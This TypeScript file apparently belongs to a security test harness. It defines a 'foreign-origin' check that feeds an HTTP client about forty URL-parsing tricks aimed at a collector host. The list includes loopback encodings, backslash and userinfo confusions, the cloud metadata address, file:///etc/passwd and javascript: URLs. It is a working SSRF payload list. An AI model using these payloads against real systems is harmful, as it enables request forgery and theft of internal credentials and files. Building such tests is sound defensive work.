import { type Attack, nothing, type Way } from '../attack.ts';

/** Names its own host as the target, in all the ways in which two programs read one address differently. */
export const foreignOrigin: Attack = {
  name: 'foreign-origin',
  ways: ({ client, collector, read }) => {
    const { hostname, port } = splitAddress(collector);
    const host = `${hostname}:${port}`;
    const targets = [
      `${collector}/steal`,
      `https://${host}/steal`,
      `http://api.good@${host}/steal`,
      `http://api.good:443@${host}/steal`,
      `http://${host}#@api.good/`,
      `http://${host}\\@api.good/`,
      `//${host}/steal`,
      `///${host}/steal`,
      `/\\${host}/steal`,
      `\\\\${host}/steal`,
      `http:\\\\${host}/steal`,
      `http:/${host}/steal`,
      `http:${host}/steal`,
      `@${host}/steal`,
      `:${port}/steal`,
      `.${host}/steal`,
      `ht\ntp://${host}/steal`,
      `/\t/${host}/steal`,
      ` ${collector}/steal`,
      `\u0000${collector}/steal`,
      `${collector.toUpperCase()}/steal`,
      `http://localhost:${port}/steal`,
      `http://localhost.:${port}/steal`,
      `http://${hostname}.:${port}/steal`,
      `http://0x7f.1:${port}/steal`,
      `http://2130706433:${port}/steal`,
      `http://127.1:${port}/steal`,
      `http://0:${port}/steal`,
      `http://[::ffff:127.0.0.1]:${port}/steal`,
      `http://[::1]:${port}/steal`,
      `http://１２７.0.0.1:${port}/steal`,
      `http://127。0。0。1:${port}/steal`,
      'http://169.254.169.254/latest/meta-data/',
      'file:///etc/passwd',
      'data:text/plain,steal',
      'blob:null/steal',
      'javascript:steal()',
      `ws://${host}/steal`,
    ];
    const visit = async (target: string): Promise<string> => {
      const text = await read(await client.fetch(target));
      return text.includes('"collector"') ? 'an answer of the collector' : nothing('stayed at home');
    };
    return new Map<string, Way>(targets.map((target) => [JSON.stringify(target), () => visit(target)]));
  },
};

const splitAddress = (address: string): { hostname: string; port: string } => {
  const [, hostname = '', port = ''] = /^http:\/\/([^:/]+):(\d+)/.exec(address) ?? [];
  return { hostname, port };
};
